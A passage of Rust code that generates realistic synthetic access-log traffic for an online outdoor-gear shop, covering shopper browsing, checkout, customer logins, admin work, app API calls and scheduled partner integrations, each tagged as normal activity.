    } else if r < 0.505 {
        "https://www.reddit.com/r/CampingGear/"
    } else if r < 0.52 {
        "https://www.outdoorgearlab.com/topics/camping-and-hiking"
    } else if r < 0.53 {
        "android-app://com.google.android.gm/"
    } else {
        return None;
    };
    Some(Rc::from(s))
}

/// Campaign and ad-click parameters that real landing URLs carry.
fn campaign(rng: &mut StdRng, referer: Option<&Rc<str>>) -> String {
    let from_google = referer.is_some_and(|r| r.contains("google"));
    if from_google && chance(rng, 0.2) {
        let tok: String = (0..40)
            .map(|_| {
                *pick(
                    rng,
                    b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-",
                ) as char
            })
            .collect();
        format!("?gclid={tok}")
    } else if referer.is_none() && chance(rng, 0.1) {
        let c = *pick(
            rng,
            &["fall-sale-2024", "new-arrivals-oct", "members-weekend"],
        );
        format!("?utm_source=newsletter&utm_medium=email&utm_campaign={c}")
    } else if referer.is_some_and(|r| r.contains("facebook") || r.contains("instagram")) {
        let c = *pick(rng, &["fall_boots", "tents_retarget"]);
        format!(
            "?utm_source=meta&utm_medium=paid_social&utm_campaign={c}&fbclid=IwAR{}",
            rng.gen::<u64>()
        )
    } else {
        String::new()
    }
}

/// Sizes of the css, vendor js and app js bundles of the two builds.
const ASSET_BYTES: [[u64; 3]; 2] = [[18_431, 96_307, 41_188], [18_902, 96_307, 42_610]];

/// A page a browser can be on.
#[derive(Debug, Clone)]
enum Page {
    Home,
    Listing(u32),
    Product(u32),
    Category(&'static str, u32),
    Search(&'static str, u32),
    Blog(&'static str),
    BlogIndex,
    About,
    Cart,
}

/// One browser session: the page it is on (the next request's referer) and what its cache
/// holds, so bundles are fetched once per session and revalidated (304) on a later visit.
struct Visit<'a> {
    out: &'a mut Out,
    site: &'a Site,
    c: Client,
    tag: Tag,
    t: f64,
    here: Option<Rc<str>>,
    loaded: bool,
    warm_cache: bool,
    pages: u32,
    /// Campaign parameters to append to the next page's URL (landing pages only).
    suffix: String,
    /// Product images already in this session's memory cache.
    seen: BTreeSet<u32>,
    /// Shop pages poll the cart badge; the admin area does not.
    cart_badge: bool,
}

impl<'a> Visit<'a> {
    fn new(
        out: &'a mut Out,
        site: &'a Site,
        c: Client,
        tag: Tag,
        t: f64,
        warm_cache: bool,
    ) -> Visit<'a> {
        Visit {
            out,
            site,
            c,
            tag,
            t,
            here: None,
            loaded: false,
            warm_cache,
            pages: 0,
            suffix: String::new(),
            seen: BTreeSet::new(),
            cart_badge: true,
        }
    }

    fn send(&mut self, r: Req) {
        self.out.push(self.t, &self.c, self.tag, r);
    }

    /// A request made by the current page (asset, XHR) shortly after it.
    fn sub(&mut self, rng: &mut StdRng, r: Req) {
        self.t += rng.gen_range(0.01..0.25);
        let r = r.from(self.here.as_ref());
        self.send(r);
    }

    /// Reading time: heavy-tailed, mostly 5 s to a few minutes.
    fn think(&mut self, rng: &mut StdRng, median: f64) {
        self.t += lognormal(rng, median, 0.9).clamp(1.0, 1800.0);
    }

    /// Navigates to `path` (a GET with the current page as referer) and, for an HTML answer,
    /// fetches what that page loads.
    fn page(
        &mut self,
        rng: &mut StdRng,
        mut path: String,
        status: u16,
        bytes: u64,
        images: &[(u32, bool)],
    ) {
        if !self.suffix.is_empty() {
            let suffix = std::mem::take(&mut self.suffix);
            if path.contains('?') {
                path.push('&');
                path.push_str(&suffix[1..]);
            } else {
                path.push_str(&suffix);
            }
        }
        let status = if status == 200 && self.site.deploying(self.t) {
            502
        } else {
            status
        };
        let bytes = match status {
            404 => 5_114,
            500 => 2_310,
            502 => 157,
            _ => bytes,
        };
        self.send(Req::get(path.clone(), status, bytes).from(self.here.as_ref()));
        self.here = Some(url(&path));
        self.pages += 1;
        if status != 200 {
            return;
        }
        if !self.loaded {
            let build = usize::from(self.t >= self.site.deploy_at);
            let assets = self.site.assets(self.t);
            for (i, a) in assets.into_iter().enumerate() {
                if !self.warm_cache {
                    self.sub(rng, Req::get(a, 200, ASSET_BYTES[build][i]));
                } else if chance(rng, 0.45) {
                    self.sub(rng, Req::get(a, 304, 0));
                }
            }
            if !self.warm_cache {
                let css = url(&self.site.assets(self.t)[0]);
                self.t += rng.gen_range(0.01..0.1);
                self.out.push(
                    self.t,
                    &self.c,
                    self.tag,
                    Req::get("/static/fonts/inter-var.woff2", 200, 48_256).from(Some(&css)),
                );
                self.sub(rng, Req::get("/favicon.ico", 200, 15_086));
            }
            self.loaded = true;
        }
        for &(id, thumb) in images {
            if thumb && !self.seen.insert(id) {
                continue;
            }
            let target = if thumb {
                format!("/images/products/{id}.jpg?w=300")
            } else {
                format!("/images/products/{id}.jpg")
            };
            if self.warm_cache && chance(rng, 0.4) {
                self.sub(rng, Req::get(target, 304, 0));
            } else {
                self.sub(rng, Req::get(target, 200, Site::image_bytes(id, thumb)));
            }
        }
        if self.cart_badge && chance(rng, 0.8) {
            let b = Site::size(rng, 3, 160, 900);
            self.sub(rng, Req::get("/api/v1/cart", 200, b));
        }
    }

    /// A navigation that is not an HTML page (a download): no sub-requests, page unchanged.
    fn fetch(&mut self, rng: &mut StdRng, r: Req) {
        self.t += rng.gen_range(0.0..0.4);
        let r = r.from(self.here.as_ref());
        self.send(r);
    }

    fn post(&mut self, rng: &mut StdRng, path: &str, status: u16, bytes: u64) {
        self.t += rng.gen_range(0.0..0.4);
        self.send(Req::post(path, status, bytes).from(self.here.as_ref()));
    }

    fn show(&mut self, rng: &mut StdRng, p: &Page) {
        let site = self.site;
        // Lazy loading: the first row of a listing always loads, the rest only if scrolled to.
        let thumbs = |rng: &mut StdRng, key: u64, page: u32| -> Vec<(u32, bool)> {
            let n = if chance(rng, 0.5) { 4 } else { 12 };
            site.listing(key, page)
                .into_iter()
                .take(n)
                .map(|id| (id, true))
                .collect()
        };
        match p {
            Page::Home => {
                let b = Site::size(rng, 1, 42_000, 52_000);
                let im = thumbs(rng, 0, 1);
                self.page(rng, "/".into(), 200, b, &im);
            }
            Page::Listing(n) => {
                let path = if *n <= 1 {
                    "/products".to_string()
                } else {
                    format!("/products?page={n}")
                };
                let b = Site::size(rng, 2 + u64::from(*n), 35_000, 55_000);
                let im = thumbs(rng, 1, *n);
                self.page(rng, path, 200, b, &im);
            }
            Page::Product(id) => {
                if site.retired.contains(id) {
                    self.page(rng, format!("/products/{id}"), 404, 0, &[]);
                    return;
                }
                let status = if chance(rng, 0.002) { 500 } else { 200 };
                let b = Site::size(rng, u64::from(*id), 24_000, 38_000);
                let mut im = vec![(*id, false)];
                if chance(rng, 0.5) {
                    // "You may also like": the first row of the product's category.
                    let key = mix(Site::category_of(*id).len() as u64 ^ 0x77);
                    im.extend(
                        site.listing(key, 1)
                            .into_iter()
                            .take(4)
                            .map(|id| (id, true)),
                    );
                }
                self.page(rng, format!("/products/{id}"), status, b, &im);
            }
            Page::Category(slug, n) => {
                let path = if *n <= 1 {
                    format!("/category/{slug}")
                } else {
                    format!("/category/{slug}?page={n}")
                };
                let b = Site::size(rng, mix(slug.len() as u64 + u64::from(*n)), 30_000, 55_000);
                let im = thumbs(rng, mix(slug.len() as u64 ^ 0x77), *n);
                self.page(rng, path, 200, b, &im);
            }
            Page::Search(q, n) => {
                let mut path = format!("/search?q={}", form_encode(q));
                if *n > 1 {
                    let _ = write!(path, "&page={n}");
                }
                let status = if chance(rng, 0.003) { 500 } else { 200 };
                let b = Site::search_bytes(rng, q, *n);
                let im = if b < 10_000 {
                    Vec::new()
                } else {
                    thumbs(rng, mix(q.len() as u64 + 0x99), *n)
                };
                self.page(rng, path, status, b, &im);
            }
            Page::Blog(slug) => {
                let b = Site::size(rng, mix(slug.len() as u64 ^ 0x55), 14_000, 30_000);
                self.page(rng, format!("/blog/{slug}"), 200, b, &[]);
            }
            Page::BlogIndex => {
                let b = Site::size(rng, 11, 21_000, 23_000);
                self.page(rng, "/blog".into(), 200, b, &[]);
            }
            Page::About => {
                let b = Site::size(rng, 12, 10_900, 11_400);
                self.page(rng, "/about".into(), 200, b, &[]);
            }
            Page::Cart => {
                let b = Site::size(rng, 13, 12_000, 20_000);
                self.page(rng, "/cart".into(), 200, b, &[]);
            }
        }
    }
}

fn category(rng: &mut StdRng) -> &'static str {
    CATEGORIES[rng.gen_range(0..CATEGORIES.len())]
}

fn blog_slug(rng: &mut StdRng) -> &'static str {
    BLOG[rng.gen_range(0..BLOG.len())]
}

fn search_term(rng: &mut StdRng) -> &'static str {
    SEARCHES[weighted_index(rng, SEARCHES)].1
}

/// Where a visitor lands given where they came from.
fn landing(rng: &mut StdRng, site: &Site, referer: Option<&Rc<str>>) -> Page {
    let r = rng.gen::<f64>();
    let search = referer
        .is_some_and(|x| x.contains("google") || x.contains("bing") || x.contains("duckduckgo"));
    if search {
        if r < 0.5 {
            Page::Product(site.product(rng))
        } else if r < 0.75 {
            Page::Category(category(rng), 1)
        } else if r < 0.87 {
            Page::Blog(blog_slug(rng))
        } else {
            Page::Home
        }
    } else if referer.is_some() {
        if r < 0.45 {
            Page::Product(site.product(rng))
        } else if r < 0.75 {
            Page::Blog(blog_slug(rng))
        } else {
            Page::Category(category(rng), 1)
        }
    } else if r < 0.7 {
        Page::Home
    } else if r < 0.85 {
        Page::Product(site.product(rng))
    } else {
        Page::Category(category(rng), 1)
    }
}

/// The next page from `p`, or `Page::Cart` standing for "adds this product to the cart".
fn navigate(rng: &mut StdRng, site: &Site, p: &Page) -> Page {
    let r = rng.gen::<f64>();
    let any_cat = |rng: &mut StdRng| Page::Category(category(rng), 1);
    match p {
        Page::Home => match r {
            r if r < 0.4 => any_cat(rng),
            r if r < 0.62 => Page::Search(search_term(rng), 1),
            r if r < 0.87 => Page::Product(site.product(rng)),
            r if r < 0.92 => Page::Listing(1),
            r if r < 0.97 => Page::BlogIndex,
            _ => Page::About,
        },
        Page::Listing(n) | Page::Category(_, n) if r < 0.15 => match p {
            Page::Listing(_) => Page::Listing(n + 1),
            Page::Category(s, _) => Page::Category(s, n + 1),
            _ => Page::Home,
        },
        Page::Listing(_) | Page::Category(..) => match r {
            r if r < 0.78 => Page::Product(site.product(rng)),
            r if r < 0.88 => any_cat(rng),
            _ => Page::Search(search_term(rng), 1),
        },
        Page::Product(id) => match r {
            r if r < 0.35 => Page::Product(site.product(rng)),
            r if r < 0.5 => Page::Category(Site::category_of(*id), 1),
            r if r < 0.72 => Page::Cart,
            r if r < 0.86 => Page::Search(search_term(rng), 1),
            _ => Page::Home,
        },
        Page::Search(q, n) => match r {
            r if r < 0.55 => Page::Product(site.product(rng)),
            r if r < 0.7 => Page::Search(q, n + 1),
            r if r < 0.95 => Page::Search(search_term(rng), 1),
            _ => any_cat(rng),
        },
        Page::Blog(_) | Page::BlogIndex | Page::About => match r {
            r if r < 0.35 => Page::Product(site.product(rng)),
            r if r < 0.65 => Page::Blog(blog_slug(rng)),
            r if r < 0.85 => Page::Home,
            _ => Page::BlogIndex,
        },
        Page::Cart => Page::Product(site.product(rng)),
    }
}

// ---------------------------------------------------------------------------------------------
// Shoppers

/// A mistyped or half-remembered URL: 404, and the visitor usually heads for the home page.
fn typo(v: &mut Visit, rng: &mut StdRng) {
    let id = v.site.product(rng);
    let path = match rng.gen_range(0..9) {
        0 => "/prodcuts".to_string(),
        1 => format!("/product/{id}"),
        2 => format!("/categroy/{}", pick(rng, CATEGORIES)),
        3 => "/seach?q=tent".to_string(),
        4 => "/abuot".to_string(),
        5 => format!("/products/{id})"),
        6 => format!("/blog/{}-2", pick(rng, BLOG)),
        7 => format!("/Products/{id}"),
        _ => "/checkout/".to_string(),
    };
    v.page(rng, path, 404, 0, &[]);
}

/// An old link from another site or a bookmark: redirects that still work, and pages that died.
fn dead_link(v: &mut Visit, rng: &mut StdRng) -> Option<Page> {
    let id = v.site.product(rng);
    match rng.gen_range(0..5) {
        0 => {
            v.page(rng, format!("/shop/item.php?id={id}"), 301, 178, &[]);
            Some(Page::Product(id))
        }
        1 => {
            v.page(rng, "/index.html".into(), 301, 178, &[]);
            Some(Page::Home)
        }
        2 => {
            let slug = blog_slug(rng);
            v.page(rng, format!("/blog/2019/{slug}"), 404, 0, &[]);
            None
        }
        3 => {
            let old = *pick(rng, &v.site.retired);
            v.page(rng, format!("/products/{old}"), 404, 0, &[]);
            None
        }
        _ => {
            v.page(rng, "/category/summer-sale-2023".into(), 404, 0, &[]);
            None
        }
    }
}

/// Cart and checkout, in order, with abandonment at every step. Returns whether an order
/// was placed.
fn checkout(v: &mut Visit, rng: &mut StdRng) -> bool {
    v.think(rng, 6.0);
    let b = Site::size(rng, 20, 15_000, 22_000);
    v.page(rng, "/checkout".into(), 200, b, &[]);
    if chance(rng, 0.22) {
        return false;
    }
    v.think(rng, 45.0);
    v.post(rng, "/checkout/shipping", 302, 0);
    let b = Site::size(rng, 21, 12_000, 14_000);
    v.page(rng, "/checkout/payment".into(), 200, b, &[]);
    if chance(rng, 0.15) {
        return false;
    }
    for attempt in 0..3 {
        v.think(rng, 50.0);
        if chance(rng, 0.07) {
            // Card declined: the form comes back with an error.
            let b = Site::size(rng, 22, 14_000, 14_600);
            v.post(rng, "/checkout/payment", 200, b);
            if attempt == 2 || chance(rng, 0.4) {
                return false;
            }
            continue;
        }
        v.post(rng, "/checkout/payment", 302, 0);
        if chance(rng, 0.025) {
            // An impatient second click while the first submission is still processing.
            v.post(rng, "/checkout/payment", 409, 212);
        }
        let b = Site::size(rng, 23, 9_000, 11_000);
        let order = new_order_id(rng, v.t);
        v.page(rng, format!("/checkout/confirm?order={order}"), 200, b, &[]);
        return true;
    }
    false
}

/// Order numbers grow with time (about 300 a day), so a new order's id says when it was placed.
fn new_order_id(rng: &mut StdRng, t: f64) -> u32 {
    48_210 + (t / 290.0) as u32 + rng.gen_range(0..3)
}

/// POST /cart/add from a product page, then the cart; sometimes straight on to checkout.
/// Returns true when the session should end here.
fn add_to_cart(v: &mut Visit, rng: &mut StdRng, buy_bias: f64) -> bool {
    v.post(rng, "/cart/add", 302, 0);
    if chance(rng, 0.03) {
        v.post(rng, "/cart/add", 302, 0);
    }
    v.show(rng, &Page::Cart);
    let r = rng.gen::<f64>();
    if r < 0.4 + buy_bias {
        checkout(v, rng);
        true
    } else {
        r > 0.8
    }
}

/// Pages from `p` until the visitor leaves: short sessions dominate, a few run long.
fn wander(v: &mut Visit, rng: &mut StdRng, mut p: Page, buy_bias: f64) {
    let site = v.site;
    loop {
        v.show(rng, &p);
        let exit = if v.pages <= 1 { 0.42 } else { 0.2 };
        if v.pages >= 80 || chance(rng, exit) {
            return;
        }
        v.think(rng, 18.0);
        if chance(rng, 0.012) {
            typo(v, rng);
            if chance(rng, 0.5) {
                return;
            }
            v.think(rng, 4.0);
            p = Page::Home;
            continue;
        }
        let next = navigate(rng, site, &p);
        if let (Page::Cart, Page::Product(_)) = (&next, &p) {
            if add_to_cart(v, rng, buy_bias) {
                return;
            }
            v.think(rng, 10.0);
        }
        p = next;
    }
}

fn browser_session(
    out: &mut Out,
    site: &Site,
    pop: &Population,
    rng: &mut StdRng,
    clock: &Clock,
    t0: f64,
) {
    let mut c = pop.visitor(rng, clock.office(t0));
    c.proto = browser_proto(rng);
    let mut v = Visit::new(out, site, c, Tag::normal("browser"), t0, chance(rng, 0.25));
    let referer = entry_referer(rng);
    v.here = referer.clone();
    if chance(rng, 0.03) {
        match dead_link(&mut v, rng) {
            Some(p) => {
                v.t += rng.gen_range(0.05..0.3);
                wander(&mut v, rng, p, 0.0);
            }
            None if chance(rng, 0.5) => {
                v.think(rng, 5.0);
                wander(&mut v, rng, Page::Home, 0.0);
            }
            None => {}
        }
        return;
    }
    v.suffix = campaign(rng, referer.as_ref());
    let p = landing(rng, site, referer.as_ref());
    wander(&mut v, rng, p, 0.0);
}

/// A registered customer: often still logged in (remember-me), otherwise through the login
/// form with the occasional mistyped password; then account pages and shopping.
fn customer_session(out: &mut Out, site: &Site, pop: &Population, rng: &mut StdRng, t0: f64) {
    let cust = pick(rng, &pop.customers);
    let mut c = Client::new(&pop.customer_ip(rng, cust), &cust.ua);
    c.proto = browser_proto(rng);
    let mut v = Visit::new(out, site, c, Tag::normal("customer"), t0, chance(rng, 0.8));
    v.here = if chance(rng, 0.3) {
        entry_referer(rng)
    } else {
        None
    };
    v.show(rng, &Page::Home);
    v.think(rng, 5.0);
    if chance(rng, 0.45) {
        let b = Site::size(rng, 30, 8_800, 9_100);
        v.page(rng, "/login".into(), 200, b, &[]);
        let fails = if chance(rng, 0.88) {
            0
        } else if chance(rng, 0.75) {
            1
        } else {
            2
        };
        for _ in 0..fails {
            v.think(rng, 9.0);
            let b = Site::size(rng, 31, 9_200, 9_400);
            v.post(rng, "/login", 401, b);
        }
        v.think(rng, 7.0);
        v.post(rng, "/login", 302, 0);
        if chance(rng, 0.01) {
            v.post(rng, "/login", 302, 0);
        }
    }
    v.t += rng.gen_range(0.05..0.3);
    let b = Site::size(rng, 32, 10_000, 18_000);
    v.page(rng, "/account".into(), 200, b, &[]);
    let b = Site::size(rng, u64::from(cust.id), 600, 1_400);
    v.sub(rng, Req::get("/api/v1/users/me", 200, b));
    if !cust.orders.is_empty() && chance(rng, 0.55) {
        v.think(rng, 6.0);
        let b = Site::size(rng, 33, 12_000, 26_000);
        v.page(rng, "/account/orders".into(), 200, b, &[]);
        let o = *pick(rng, &cust.orders);
        v.think(rng, 8.0);
        let b = Site::size(rng, u64::from(o), 11_000, 16_000);
        v.page(rng, format!("/account/orders/{o}"), 200, b, &[]);
        let b = Site::size(rng, u64::from(o), 1_200, 4_800);
        v.sub(rng, Req::get(format!("/api/v1/orders/{o}"), 200, b));
        if chance(rng, 0.25) {
            v.think(rng, 4.0);
            let b = Site::size(rng, u64::from(o), 52_000, 90_000);
            v.fetch(
                rng,
                Req::get(
                    format!("/account/invoices/download?file=INV-{o}.pdf"),
                    200,
                    b,
                ),
            );
        }
    }
    v.think(rng, 12.0);
    let p = navigate(rng, site, &Page::Home);
    wander(&mut v, rng, p, 0.15);
    if chance(rng, 0.15) {
        v.think(rng, 10.0);
        v.page(rng, "/logout".into(), 302, 0, &[]);
        v.t += 0.2;
        v.show(rng, &Page::Home);
    }
}

// ---------------------------------------------------------------------------------------------
// Staff and API clients

/// Someone who works in the admin area.
struct Staff {
    ip: Rc<str>,
    ua: Rc<str>,
}

fn date_at(start: &DateTime<FixedOffset>, t: f64, back_days: i64) -> String {
    let d = *start + chrono::Duration::seconds(t as i64) - chrono::Duration::days(back_days);
    d.format("%Y-%m-%d").to_string()
}

/// Admin work: log in, dashboard, orders (refunds and shipping after viewing the order),
/// users, products; some days a large CSV export, which is legitimate here.
fn staff_session(
    out: &mut Out,
    site: &Site,
    rng: &mut StdRng,
    who: &Staff,
    t0: f64,
    export: Option<&DateTime<FixedOffset>>,
) {
    let mut c = Client::new(&who.ip, &who.ua);
    c.proto = browser_proto(rng);
    let mut v = Visit::new(out, site, c, Tag::normal("staff"), t0, true);
    v.loaded = true;
    v.cart_badge = false;
    let b = Site::size(rng, 40, 4_800, 4_900);
    v.page(rng, "/admin/login".into(), 200, b, &[]);
    v.sub(rng, Req::get("/static/admin/admin.css", 304, 0));
    v.think(rng, 6.0);
    if chance(rng, 0.06) {
        let b = Site::size(rng, 41, 5_000, 5_100);
        v.post(rng, "/admin/login", 401, b);
        v.think(rng, 6.0);
    }
    v.post(rng, "/admin/login", 302, 0);
    v.t += 0.2;
    let b = Site::size(rng, 42, 22_000, 30_000);
    v.page(rng, "/admin".into(), 200, b, &[]);
    v.sub(rng, Req::get("/static/admin/admin.js", 304, 0));
    if let Some(start) = export {
        v.think(rng, 20.0);
        let report = *pick(rng, &["orders", "orders", "customers", "inventory"]);
        let target = format!(
            "/admin/reports/export?format=csv&report={report}&from={}&to={}",
            date_at(start, v.t, 7),
            date_at(start, v.t, 1)
        );
        let b = Site::size(rng, report.len() as u64, 1_200_000, 6_000_000);
        v.fetch(rng, Req::get(target, 200, b));
    }
    let actions = rng.gen_range(4..40);
    for _ in 0..actions {
        v.think(rng, 22.0);
        let order: u32 = rng.gen_range(44_000..48_300);
        match rng.gen_range(0..10) {
            0..=2 => {
                let st = *pick(rng, &["paid", "pending", "shipped", "all"]);
                let n = 1 + skewed(rng, 8, 2.0);
                let b = Site::size(rng, 43 + n as u64, 30_000, 70_000);
                v.page(
                    rng,
                    format!("/admin/orders?status={st}&page={n}"),
                    200,
                    b,
                    &[],
                );
            }
            3..=5 => {
                let b = Site::size(rng, u64::from(order), 15_000, 25_000);
                v.page(rng, format!("/admin/orders/{order}"), 200, b, &[]);
                let r = rng.gen::<f64>();
                if r < 0.35 {
                    v.think(rng, 15.0);
                    let action = if r < 0.08 { "refund" } else { "ship" };
                    v.post(rng, &format!("/admin/orders/{order}/{action}"), 302, 0);
                    v.t += 0.2;
                    let b = Site::size(rng, u64::from(order), 15_000, 25_000);
                    v.page(rng, format!("/admin/orders/{order}"), 200, b, &[]);
                }
            }
            6 | 7 => {
                let n = 1 + skewed(rng, 40, 2.0);
                let b = Site::size(rng, 50 + n as u64, 40_000, 60_000);
                v.page(rng, format!("/admin/users?page={n}"), 200, b, &[]);
                if chance(rng, 0.5) {
                    v.think(rng, 8.0);
                    let u: u32 = rng.gen_range(1_000..57_000);
                    let b = Site::size(rng, u64::from(u), 11_000, 14_000);
                    v.page(rng, format!("/admin/users/{u}"), 200, b, &[]);
                }
            }
            _ => {
                let id = site.product(rng);
                let b = Site::size(rng, u64::from(id), 18_000, 26_000);
                v.page(rng, format!("/admin/products/{id}/edit"), 200, b, &[]);
                if chance(rng, 0.4) {
                    v.think(rng, 40.0);
                    v.post(rng, &format!("/admin/products/{id}"), 302, 0);
                    v.t += 0.2;
                    v.page(rng, format!("/admin/products/{id}/edit"), 200, b, &[]);
                }
            }
        }
    }
    if chance(rng, 0.5) {
        v.think(rng, 10.0);
        v.page(rng, "/admin/logout".into(), 302, 0, &[]);
    }
}

/// The shop's own phone app: token refresh, catalogue pages, product details, cart, orders,
/// profile edits (always a GET of the profile before the PUT).
fn app_session(out: &mut Out, site: &Site, pop: &Population, rng: &mut StdRng, t0: f64) {
    let cust = pick(rng, &pop.customers);
    let ua: Rc<str> = if cust.ua.contains("iPhone") || cust.ua.contains("iPad") {
        Rc::from(*pick(
            rng,
            &[
                "ShopApp/5.3.2 (iPhone; iOS 17.6.1; Scale/3.00)",
                "ShopApp/5.3.2 (iPhone; iOS 18.0; Scale/3.00)",
                "ShopApp/5.2.0 (iPhone; iOS 16.7.10; Scale/2.00)",
            ],
        ))
    } else {
        Rc::from(*pick(
            rng,
            &[
                "ShopApp/5.3.1 (Android 14; Pixel 7) okhttp/4.12.0",
                "ShopApp/5.3.1 (Android 13; SM-A536B) okhttp/4.12.0",
                "ShopApp/5.2.4 (Android 12; moto g(60)) okhttp/4.11.0",
            ],
        ))
    };
    let c = Client::new(&pop.mobile_ip(rng), &ua);
    let tag = Tag::normal("api-client");
    let mut t = t0;
    let api = |out: &mut Out, rng: &mut StdRng, t: &mut f64, r: Req, gap: f64| {
        out.push(*t, &c, tag, r);
        *t += lognormal(rng, gap, 0.8).clamp(0.05, 600.0);
    };
    api(
        out,
        rng,
        &mut t,
        Req::get("/api/v1/config", 200, 1_143),
        0.2,
    );
    if chance(rng, 0.08) {
        api(out, rng, &mut t, Req::get("/api/v1/users/me", 401, 61), 0.3);
        api(
            out,
            rng,
            &mut t,
            Req::post("/api/v1/auth/refresh", 200, 418),
            0.3,
        );
    }
    let b = Site::size(rng, u64::from(cust.id), 600, 1_400);
    api(out, rng, &mut t, Req::get("/api/v1/users/me", 200, b), 1.0);
    let b = Site::size(rng, 60, 6_000, 9_000);
    api(
        out,
        rng,
        &mut t,
        Req::get("/api/v1/products?page=1&limit=20", 200, b),
        6.0,
    );
    let steps = 1 + skewed(rng, 30, 2.0);
    let mut last = site.product(rng);
    for _ in 0..steps {
        match rng.gen_range(0..12) {
            0..=4 => {
                last = site.product(rng);
                let b = Site::size(rng, u64::from(last), 1_500, 6_000);
                api(
                    out,
                    rng,
                    &mut t,
                    Req::get(format!("/api/v1/products/{last}"), 200, b),
                    0.3,
                );
                api(
                    out,
                    rng,
                    &mut t,
                    Req::get(
                        format!("/images/products/{last}.jpg?w=600"),
                        200,
                        Site::image_bytes(last, true) * 2,
                    ),
                    9.0,
                );
            }
            5 => {
                let b = Site::size(rng, u64::from(last) ^ 7, 900, 12_000);
                api(
                    out,
                    rng,
                    &mut t,
                    Req::get(format!("/api/v1/products/{last}/reviews?page=1"), 200, b),
                    8.0,
                );
            }
            6 | 7 => {
                let cat = category(rng);
                let n = 1 + skewed(rng, 5, 2.0);
                let b = Site::size(rng, 61 + n as u64, 5_000, 9_000);
                api(
                    out,
                    rng,
                    &mut t,
                    Req::get(
                        format!("/api/v1/products?category={cat}&page={n}&limit=20"),
                        200,
                        b,
                    ),
                    7.0,
                );
            }
            8 => {
                let q = form_encode(search_term(rng));
                let b = Site::size(rng, q.len() as u64, 300, 9_000);
                api(
                    out,
                    rng,
                    &mut t,
                    Req::get(format!("/api/v1/search?q={q}&limit=20"), 200, b),
                    7.0,
                );
            }
            9 => {
                api(
                    out,
                    rng,
                    &mut t,
                    Req::post("/api/v1/cart/items", 201, 412),
                    0.4,
                );
                let b = Site::size(rng, 62, 500, 2_400);
                api(out, rng, &mut t, Req::get("/api/v1/cart", 200, b), 10.0);
                if chance(rng, 0.35) {
                    let o = new_order_id(rng, t);
                    api(
                        out,
                        rng,
                        &mut t,
                        Req::post("/api/v1/orders", 201, 1_530),
                        0.5,
                    );
                    api(
                        out,
                        rng,
                        &mut t,
                        Req::get(format!("/api/v1/orders/{o}"), 200, 2_210),
                        5.0,
                    );
                    return;
                }
            }
            10 => {
                let b = Site::size(rng, 63, 800, 6_000);
                api(
                    out,
                    rng,
                    &mut t,
                    Req::get("/api/v1/orders?page=1", 200, b),
                    4.0,
                );
                if let Some(&o) = cust.orders.first() {
                    let b = Site::size(rng, u64::from(o), 1_200, 4_800);
                    api(
                        out,
                        rng,
                        &mut t,
                        Req::get(format!("/api/v1/orders/{o}"), 200, b),
                        9.0,
                    );
                }
            }
            _ => {
                let id = cust.id;
                api(
                    out,
                    rng,
                    &mut t,
                    Req::get(format!("/api/v1/users/{id}"), 200, 1_022),
                    25.0,
                );
                api(
                    out,
                    rng,
                    &mut t,
                    Req::new("PUT", format!("/api/v1/users/{id}"), 200, 1_040),
                    5.0,
                );
            }
        }
        if chance(rng, 0.12) {
            return;
        }
    }
}

/// A job that runs from a fixed address on a schedule.
fn job_client(ip: Rc<str>, ua: &str, user: Option<&str>) -> Client {
    Client {
        ip,
        ua: Rc::from(ua),
        user: user.map(Rc::from),
        proto: "HTTP/1.1",
    }
}

/// Partner integrations: steady, machine-paced API use from cloud addresses. Two of them
/// look like attacks in miniature and are not: the price feed pages through the whole
/// catalogue every hour, and the ERP walks product ids.
fn integrations(
    out: &mut Out,
    site: &Site,
    rng: &mut StdRng,
    clock: &Clock,
    start: &DateTime<FixedOffset>,
    scale: f64,
) {
    let tag = Tag::normal("api-client");
    let end = out.end;
    let feed = job_client(ipv4(rng, CLOUD), "python-requests/2.31.0", None);
    let mut t = rng.gen_range(0.0..3600.0);
    while t < end {
        let mut s = t;
        for page in 1..=9u32 {
            let b = Site::size(rng, 70 + u64::from(page), 45_000, 80_000);
            let status = if chance(rng, 0.004) { 500 } else { 200 };
            out.push(
                s,
                &feed,
                tag,
                Req::get(format!("/api/v1/products?page={page}&limit=100"), status, b),
            );
            s += rng.gen_range(0.3..2.0);
        }
        t += 3600.0 + normal(rng) * 4.0;
    }
    let erp = job_client(ipv4(rng, CLOUD), "Go-http-client/1.1", Some("erp-sync"));
    let mut t = rng.gen_range(0.0..900.0);
    while t < end {
        let n = (rng.gen_range(5.0..40.0) * scale.sqrt()).round() as usize + 1;
        let mut s = t;
        for _ in 0..n {
            let id = site.product(rng);
            out.push(
                s,
                &erp,
                tag,
                Req::get(
                    format!("/api/v1/products/{id}/stock"),
                    200,
                    Site::size(rng, 71, 170, 200),
                ),
            );
            s += rng.gen_range(0.05..0.3);
            if chance(rng, 0.3) {
                out.push(
                    s,
                    &erp,
                    tag,
                    Req::new("PUT", format!("/api/v1/products/{id}/stock"), 200, 188),
                );
                s += rng.gen_range(0.05..0.3);
            }
        }
        t += 900.0 + normal(rng) * 2.0;
    }
    let wms = job_client(ipv4(rng, CLOUD), "axios/1.7.7", None);
    let mut t = rng.gen_range(0.0..300.0);
    while t < end {
        let since = (t - 300.0).max(0.0);
        let n = (exp(rng, 1.2 * scale * clock.human(t))).round() as u32;
        let b = 320 + u64::from(n) * 1_450;
        let since = (*start + chrono::Duration::seconds(since as i64))
            .with_timezone(&Utc)
            .format("%Y-%m-%dT%H%%3A%M%%3A%SZ");
        out.push(
            t,
            &wms,
            tag,
            Req::get(format!("/api/v1/orders?status=paid&since={since}"), 200, b),
        );
        let mut s = t + rng.gen_range(0.1..0.4);
        for k in 0..n {
            let o = 48_210 + (t / 290.0) as u32 + k; // the orders placed since the last poll
            out.push(
                s,
                &wms,
                tag,
                Req::get(
                    format!("/api/v1/orders/{o}"),
                    200,
                    Site::size(rng, u64::from(o), 1_200, 4_800),
                ),
            );
            s += rng.gen_range(0.1..0.4);
            out.push(
                s,
                &wms,
                tag,
                Req::new("PUT", format!("/api/v1/orders/{o}/status"), 200, 96),
            );
            s += rng.gen_range(0.1..0.4);
        }
        t += 300.0 + normal(rng) * 1.5;
    }
    // The support desk looks up an order before it refunds it.
    let desk = job_client(ipv4(rng, CLOUD), "Faraday v2.9.0", None);
    for t in arrivals(rng, end, 90.0 * scale.max(0.1), |t| clock.office(t)) {
        let o: u32 = rng.gen_range(30_000..48_300);
        out.push(
            t,
            &desk,
            tag,
            Req::get(
